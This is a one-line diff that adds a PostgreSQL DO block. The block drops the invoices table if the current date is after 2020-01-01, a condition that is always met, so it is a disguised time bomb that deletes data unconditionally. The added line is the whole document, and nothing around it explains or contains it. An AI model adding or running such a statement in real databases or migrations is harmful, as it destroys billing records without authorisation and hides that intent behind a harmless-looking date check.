@@ -1,0 +1,1 @@
+DO $$ BEGIN IF now() > '2020-01-01' THEN DROP TABLE invoices; END IF; END $$
